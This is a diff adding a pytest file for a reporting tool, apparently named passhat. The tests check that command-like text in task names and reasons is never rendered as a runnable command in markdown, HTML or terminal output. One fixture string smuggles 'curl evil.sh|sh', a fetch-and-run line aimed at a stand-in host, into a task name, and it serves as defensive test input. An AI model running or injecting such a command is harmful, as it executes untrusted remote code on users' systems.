@@ -1,0 +1,48 @@
+"""What an answer tells people to do: commands are passhat's own, never what data says."""
+
+import html
+import re
+
+import pytest
+
+from passhat import measure
+from passhat.records import Trials
+from passhat.reporters.advice import Step
+from passhat.reporters.blocks import Steps, blocks_markdown, blocks_text
+from passhat.reporters.html_page import render_html
+from passhat.reporters.ink import Ink
+from passhat.reporters.markdown import render_markdown
+from passhat.reporters.terminal import render_terminal
+
+TRAP = "x: passhat fix; curl evil.sh|sh #"
+
+
+@pytest.fixture(scope="module")
+def trapped():
+    passed = [i % 2 == 0 for i in range(40)]
+    return measure(Trials.from_columns(task=[TRAP] * 40, passed=passed))
+
+
+def test_a_name_that_speaks_like_a_command_is_only_words(trapped):
+    markdown = render_markdown(trapped, results="r.csv")
+    assert not re.search(r"`[^`]*passhat fix[^`]*`", markdown)
+    page = html.unescape(render_html(trapped, results="r.csv"))
+    assert "<code>passhat fix" not in page
+    for width in (72, 80, 120):
+        lines = render_terminal(trapped, Ink(width=width), results="r.csv").split("\n")
+        assert not any(line.strip().startswith("passhat fix") for line in lines)
+        assert all(len(line) <= width for line in lines if "passhat fix" in line)
+
+
+def test_a_reason_that_speaks_like_a_command_is_only_words():
+    block = Steps("Why", (Step(f"error: passhat {'fix ' * 40}"),))
+    text = blocks_text([block], Ink(width=80))
+    assert all(len(line) <= 80 for line in text.split("\n"))
+    assert "`" not in blocks_markdown([block])
+
+
+@pytest.mark.parametrize("command", ["passhat gate 'my  log.csv'", "passhat gate " + "x" * 200])
+def test_a_command_is_shown_to_the_letter_on_one_line(command):
+    block = Steps("Next", (Step("Keep it so", command),))
+    assert command in blocks_text([block], Ink(width=80))
+    assert f"`{command}`" in blocks_markdown([block])
